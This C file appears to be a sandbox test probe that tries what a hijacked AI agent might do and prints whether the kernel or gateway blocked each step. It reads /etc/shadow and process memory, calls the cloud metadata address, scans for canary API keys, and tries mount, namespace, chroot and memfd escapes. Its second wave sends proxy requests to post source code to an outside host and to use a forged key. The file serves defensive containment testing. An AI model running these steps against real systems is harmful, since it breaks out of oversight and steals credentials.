/* What a hijacked agent would try, compiled and run in the box. Each line that it prints says what the kernel or the
   gateway answered: "PROBE name errno=N" for a call, "PROBE name status=N" for a request, "PROBE name eai=N" for a name looked up,
   "PROBE name found=N of M" for a search that looked at M things (and read at least a byte of each).
   Nothing here decides whether a wall held; the program that reads these lines does. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;

static void told(const char *name, long result) {
    printf("PROBE %s errno=%d\n", name, result < 0 ? errno : 0);
    fflush(stdout);
}

static long dial(const char *address, int port, int kind) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, address, &to.sin_addr);
    int s = socket(AF_INET, kind, 0);
    if (s < 0) return -1;
    long done = connect(s, (struct sockaddr *)&to, sizeof to);
    if (done == 0 && kind == SOCK_DGRAM) done = send(s, "x", 1, 0);
    int kept = errno;
    close(s);
    errno = kept;
    return done;
}

/* Asks the one door there is, and prints the status of its answer. */
static void ask(const char *name, const char *head, const char *body) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(8080)};
    inet_pton(AF_INET, "127.0.0.1", &to.sin_addr);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    char buffer[4096];
    int status = 0;
    if (s >= 0 && connect(s, (struct sockaddr *)&to, sizeof to) == 0) {
        int length = snprintf(buffer, sizeof buffer, "%sContent-Length: %zu\r\nConnection: close\r\n\r\n%s", head, strlen(body), body);
        if (write(s, buffer, length) == length) {
            ssize_t got = read(s, buffer, sizeof buffer - 1);
            if (got > 12) {
                buffer[got] = 0;
                status = atoi(buffer + 9);
            }
        }
    }
    close(s);
    printf("PROBE %s status=%d\n", name, status);
    fflush(stdout);
}

/* A key by its format: the prefix, then at least twenty characters of its alphabet. */
static int holds_key(const char *data, size_t length) {
    static const char prefix[] = {'s', 'k', '-', 'v', 'o', 'l', 'a', 'r', 'y', '-', 'c', 'a', 'n', 'a', 'r', 'y', '-'};
    for (size_t i = 0; i + sizeof prefix + 20 <= length; i++) {
        if (memcmp(data + i, prefix, sizeof prefix)) continue;
        size_t n = 0;
        const char *rest = data + i + sizeof prefix;
        while (n < 20 && ((rest[n] >= 'a' && rest[n] <= 'z') || (rest[n] >= '2' && rest[n] <= '7'))) n++;
        if (n == 20) return 1;
    }
    return 0;
}

static long files_read, keys_found;

static void search_file(const char *path) {
    struct stat about;
    if (lstat(path, &about) || !S_ISREG(about.st_mode)) return;
    int f = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (f < 0) return;
    static char data[1 << 16];
    size_t held = 0;
    ssize_t got;
    long total = 0;
    while (total < (8 << 20) && (got = read(f, data + held, sizeof data - held)) > 0) {
        total += got;
        held += got;
        if (holds_key(data, held)) keys_found++;
        size_t keep = held < 64 ? held : 64;
        memmove(data, data + held - keep, keep);
        held = keep;
    }
    if (total > 0) files_read++;
    close(f);
}

static void search(const char *folder, int depth) {
    DIR *d = opendir(folder);
    if (!d || depth > 12) {
        if (d) closedir(d);
        return;
    }
    struct dirent *e;
    char path[4096];
    while ((e = readdir(d))) {
        if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..")) continue;
        snprintf(path, sizeof path, "%s/%s", folder, e->d_name);
        if (e->d_type == DT_DIR) search(path, depth + 1);
        else search_file(path);
    }
    closedir(d);
}

/* Every process's memory, as far as the kernel lets one look. */
static void search_memory(void) {
    long looked = 0, refused = 0, found = 0;
    for (int pid = 1; pid < 4096; pid++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/mem", pid);
        int f = open(path, O_RDONLY | O_CLOEXEC);
        if (f < 0) {
            if (errno != ENOENT || pid == 1) refused++;
            continue;
        }
        int any = 0;
        snprintf(path, sizeof path, "/proc/%d/maps", pid);
        FILE *maps = fopen(path, "r");
        char line[512];
        static char data[1 << 20];
        while (maps && fgets(line, sizeof line, maps)) {
            unsigned long from, to;
            if (sscanf(line, "%lx-%lx", &from, &to) != 2 || to - from > (64ul << 20)) continue;
            /* Back by more than a key, so that none is missed that lies across two pieces. */
            for (unsigned long at = from; at < to; at += sizeof data - 64) {
                ssize_t got = pread(f, data, sizeof data < to - at ? sizeof data : to - at, at);
                if (got > 0) any = 1;
                if (got > 0 && holds_key(data, got)) found++;
            }
        }
        looked += any;
        if (maps) fclose(maps);
        close(f);
    }
    printf("PROBE key-in-memory found=%ld of %ld processes (memory read; %ld refused)\n", found, looked, refused);
    fflush(stdout);
}

static void first_wave(const char *home) {
    told("host-home", open(home, O_RDONLY | O_DIRECTORY));
    told("host-shadow", open("/etc/shadow", O_RDONLY));
    told("runner-environ", open("/proc/1/environ", O_RDONLY));
    told("runner-memory", open("/proc/1/mem", O_RDONLY));
    told("runner-trace", ptrace(PTRACE_ATTACH, 1, 0, 0));
    char byte;
    struct iovec here = {&byte, 1}, there = {(void *)0x1000, 1};
    told("runner-read", process_vm_readv(1, &here, 1, &there, 1, 0));
    told("metadata", dial("169.254.169.254", 80, SOCK_STREAM));
    told("public-host", dial("198.51.100.7", 443, SOCK_STREAM));
    told("dns-packet", dial("9.9.9.9", 53, SOCK_DGRAM));
    told("raw-socket", socket(AF_INET, SOCK_RAW, IPPROTO_ICMP));
    struct addrinfo *answer = 0;
    int looked = getaddrinfo("example.com", "80", 0, &answer);
    printf("PROBE dns-name eai=%d (%s)\n", looked, looked ? gai_strerror(looked) : "resolved");
    told("mount", mount("none", "/tmp", "tmpfs", 0, 0));
    told("user-namespace", unshare(CLONE_NEWUSER));
    told("write-system", open("/usr/bin/planted", O_WRONLY | O_CREAT, 0755));
    told("device", mknod("/tmp/disk", S_IFBLK | 0600, 0x0800));
    /* Without root a box's only uid is number 0 of its own user namespace: the number is nothing, what it may do
     * counts. Leaving the tree by a new root is the first thing a real one would do. */
    told("setuid-root", setuid(0) < 0 ? -1 : chroot("/tmp"));

    char *nothing[] = {0};
    pid_t child = fork();
    if (child == 0) {
        execve("/run/volary/agent", nothing, nothing);
        _exit(errno);
    }
    int status = 0;
    waitpid(child, &status, 0);
    errno = WIFEXITED(status) ? WEXITSTATUS(status) : 0;
    told("execute-agent", errno ? -1 : 0);
    told("execute-from-memory", syscall(SYS_memfd_create, "x", 0));

    long variables = 0, keys = 0;
    for (char **v = environ; *v; v++) {
        variables++;
        printf("ENV %s\n", *v);
        /* git's own handle stands in its settings: it opens the run's repositories at the door, and no model. */
        int of_git = !strncmp(*v, "GIT_CONFIG_VALUE_", 17);
        if (holds_key(*v, strlen(*v)) || (strstr(*v, "vh_") && !of_git)) keys++;
    }
    printf("PROBE key-in-environment found=%ld of %ld variables\n", keys, variables);

    static const char *places[] = {"/workspace", "/tmp", "/etc", "/run", "/var", "/dev", "/proc/1", "/home", "/root"};
    for (size_t i = 0; i < sizeof places / sizeof *places; i++) search(places[i], 0);
    for (int pid = 1; pid < 4096; pid++) {
        static const char *names[] = {"environ", "cmdline"};
        for (int n = 0; n < 2; n++) {
            char path[64], data[1 << 15];
            snprintf(path, sizeof path, "/proc/%d/%s", pid, names[n]);
            int f = open(path, O_RDONLY | O_CLOEXEC);
            if (f < 0) continue;
            ssize_t got = read(f, data, sizeof data);
            if (got > 0) files_read++;
            if (got > 0 && holds_key(data, got)) keys_found++;
            close(f);
        }
    }
    printf("PROBE key-in-files found=%ld of %ld files\n", keys_found, files_read);
    fflush(stdout);
    search_memory();
}

static void second_wave(void) {
    ask("gateway-metadata", "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n", "");
    ask("gateway-post", "POST http://example.com/collect HTTP/1.1\r\nHost: example.com\r\n", "the source, all of it");
    ask("gateway-tunnel", "CONNECT example.com:22 HTTP/1.1\r\nHost: example.com:22\r\n", "");
    ask("gateway-forged-handle",
        "POST /model/scripted/v1/messages HTTP/1.1\r\nHost: gateway\r\nContent-Type: application/json\r\n"
        "X-Api-Key: vh_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n",
        "{\"model\":\"scripted\",\"max_tokens\":16,\"messages\":[{\"role\":\"user\",\"content\":\"hello\"}]}");
    ask("gateway-no-handle", "POST /model/scripted/v1/messages HTTP/1.1\r\nHost: gateway\r\nContent-Type: application/json\r\n",
        "{\"model\":\"scripted\",\"max_tokens\":16,\"messages\":[{\"role\":\"user\",\"content\":\"hello\"}]}");
}

int main(int argc, char **argv) {
    signal(SIGPIPE, SIG_IGN);
    if (argc == 2) first_wave(argv[1]);
    else second_wave();
    return 0;
}
